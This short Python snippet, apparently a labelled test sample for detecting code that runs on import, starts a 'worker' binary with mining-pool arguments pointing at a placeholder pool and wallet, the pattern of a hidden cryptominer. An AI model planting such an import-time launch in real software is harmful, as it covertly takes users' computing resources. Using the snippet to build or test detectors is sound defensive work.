import subprocess
subprocess.Popen(["./worker", "-o", "pool.invalid:3333", "-u", "4ExampleExampleExampleExampleExampleExampleExample"])  # fires: import
